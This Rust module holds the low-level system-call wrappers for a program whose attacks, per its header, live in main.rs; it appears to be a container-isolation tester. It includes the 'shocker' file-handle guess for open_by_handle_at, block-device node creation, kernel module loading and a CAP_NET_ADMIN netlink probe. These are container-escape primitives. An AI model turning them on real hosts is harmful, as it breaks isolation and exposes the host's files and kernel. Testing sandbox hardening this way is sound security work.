//! The raw calls the attacks need that `std` does not offer. Every `unsafe` of the program is
//! here, each block with its `// SAFETY:` reason; the attacks in `main.rs` are safe code.

use std::ffi::CString;
use std::fs::File;
use std::io;
use std::os::fd::{AsRawFd, FromRawFd};
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

fn cstr(p: &Path) -> io::Result<CString> {
    CString::new(p.as_os_str().as_bytes()).map_err(|_| io::Error::from_raw_os_error(libc::EINVAL))
}

fn check(r: libc::c_long) -> io::Result<libc::c_long> {
    if r < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(r)
    }
}

/// Mounts a 64 KiB tmpfs on `dst`.
pub fn mount_tmpfs(dst: &Path) -> io::Result<()> {
    let dst = cstr(dst)?;
    let flags = libc::MS_NOSUID | libc::MS_NODEV | libc::MS_NOEXEC;
    // SAFETY: every pointer is a NUL-terminated string that outlives the call.
    let r = unsafe {
        libc::mount(
            c"none".as_ptr(),
            dst.as_ptr(),
            c"tmpfs".as_ptr(),
            flags,
            c"size=64k".as_ptr().cast(),
        )
    };
    check(r.into()).map(drop)
}

/// Detaches whatever is mounted on `dst`.
pub fn umount(dst: &Path) -> io::Result<()> {
    let dst = cstr(dst)?;
    // SAFETY: `dst` is a NUL-terminated string that outlives the call.
    let r = unsafe { libc::umount2(dst.as_ptr(), libc::MNT_DETACH) };
    check(r.into()).map(drop)
}

/// Creates a block device node `path` (mode 0600) for `major:minor`.
pub fn mknod_block(path: &Path, major: u32, minor: u32) -> io::Result<()> {
    let p = cstr(path)?;
    let dev = libc::makedev(major, minor);
    // SAFETY: `p` is a NUL-terminated string that outlives the call.
    let r = unsafe { libc::mknod(p.as_ptr(), libc::S_IFBLK | 0o600, dev) };
    check(r.into()).map(drop)
}

/// `struct file_handle` with room for the largest handle (`MAX_HANDLE_SZ`).
#[repr(C)]
#[derive(Debug, Clone, Copy)]
pub struct FileHandle {
    /// Bytes of `f_handle` in use.
    pub handle_bytes: u32,
    /// The file system's handle type.
    pub handle_type: i32,
    /// The opaque handle.
    pub f_handle: [u8; 128],
}

impl FileHandle {
    /// The "shocker" guess: an ext4/xfs-style handle (`FILEID_INO32_GEN`) of inode `ino`,
    /// generation 0.
    pub fn guess(ino: u32) -> FileHandle {
        let mut f_handle = [0u8; 128];
        f_handle[..4].copy_from_slice(&ino.to_ne_bytes());
        FileHandle {
            handle_bytes: 8,
            handle_type: 1,
            f_handle,
        }
    }
}

/// `name_to_handle_at(AT_FDCWD, path)`: the handle of `path`.
pub fn name_to_handle(path: &Path) -> io::Result<FileHandle> {
    let p = cstr(path)?;
    let mut h = FileHandle {
        handle_bytes: 128,
        handle_type: 0,
        f_handle: [0; 128],
    };
    let mut mount_id: libc::c_int = 0;
    // SAFETY: `p` is NUL-terminated, `h` is a `struct file_handle` whose `handle_bytes` says how
    // much room follows it, `mount_id` is a valid int; all outlive the call.
    let r = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            p.as_ptr(),
            &mut h as *mut FileHandle,
            &mut mount_id as *mut libc::c_int,
            0,
        )
    };
    check(r).map(|_| h)
}

/// `open_by_handle_at(mount_fd, handle, O_RDONLY)`.
pub fn open_by_handle(mount: &File, h: &FileHandle) -> io::Result<File> {
    let mut h = *h;
    // SAFETY: `h` is a valid `struct file_handle` (its `handle_bytes` fits its buffer) that
    // outlives the call; `mount` is an open descriptor.
    let r = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mount.as_raw_fd(),
            &mut h as *mut FileHandle,
            libc::O_RDONLY | libc::O_CLOEXEC,
        )
    };
    let fd = check(r)? as libc::c_int;
    // SAFETY: the kernel just returned this descriptor to us; nothing else owns it.
    Ok(unsafe { File::from_raw_fd(fd) })
}

/// `finit_module(fd, "", 0)`.
pub fn finit_module(f: &File) -> io::Result<()> {
    // SAFETY: the descriptor is open and the parameter string is NUL-terminated and static.
    let r = unsafe {
        libc::syscall(
            libc::SYS_finit_module,
            f.as_raw_fd(),
            c"".as_ptr(),
            0 as libc::c_int,
        )
    };
    check(r).map(drop)
}

/// Sends one `RTM_NEWLINK` for a link index that does not exist, without `NLM_F_CREATE`, on a
/// route netlink socket of this network namespace, and returns the kernel's answer (0 or a
/// positive errno). The kernel checks `CAP_NET_ADMIN` first (`EPERM`); past that it finds no
/// such link and answers `ENODEV`. Nothing is ever created.
pub fn rtm_newlink_probe() -> io::Result<i32> {
    // SAFETY: plain socket(2) call with constant arguments.
    let fd = unsafe {
        libc::socket(
            libc::AF_NETLINK,
            libc::SOCK_RAW | libc::SOCK_CLOEXEC,
            libc::NETLINK_ROUTE,
        )
    };
    let fd = check(fd.into())? as libc::c_int;
    // SAFETY: the descriptor was just created and is owned by nothing else.
    let sock = unsafe { File::from_raw_fd(fd) };
    // nlmsghdr (16 bytes) + ifinfomsg (16 bytes).
    let mut msg = [0u8; 32];
    msg[0..4].copy_from_slice(&32u32.to_ne_bytes());
    msg[4..6].copy_from_slice(&libc::RTM_NEWLINK.to_ne_bytes());
    let flags = (libc::NLM_F_REQUEST | libc::NLM_F_ACK) as u16;
    msg[6..8].copy_from_slice(&flags.to_ne_bytes());
    msg[8..12].copy_from_slice(&1u32.to_ne_bytes());
    // ifi_family AF_UNSPEC, ifi_type 0, ifi_index: a link that does not exist.
    msg[20..24].copy_from_slice(&(i32::MAX - 7).to_ne_bytes());
    // SAFETY: `msg` is a valid buffer of its length; the kernel is the destination (no address).
    let sent = unsafe { libc::send(sock.as_raw_fd(), msg.as_ptr().cast(), msg.len(), 0) };
    check(sent as libc::c_long)?;
    let mut buf = [0u8; 4096];
    // SAFETY: `buf` is a writable buffer of its length.
    let got = unsafe { libc::recv(sock.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), 0) };
    let got = check(got as libc::c_long)? as usize;
    // The answer: nlmsghdr with type NLMSG_ERROR, then `int error` (0 or -errno).
    if got < 20 || u16::from_ne_bytes([buf[4], buf[5]]) != libc::NLMSG_ERROR as u16 {
        return Err(io::Error::other("no NLMSG_ERROR answer"));
    }
    let err = i32::from_ne_bytes([buf[16], buf[17], buf[18], buf[19]]);
    Ok(-err)
}
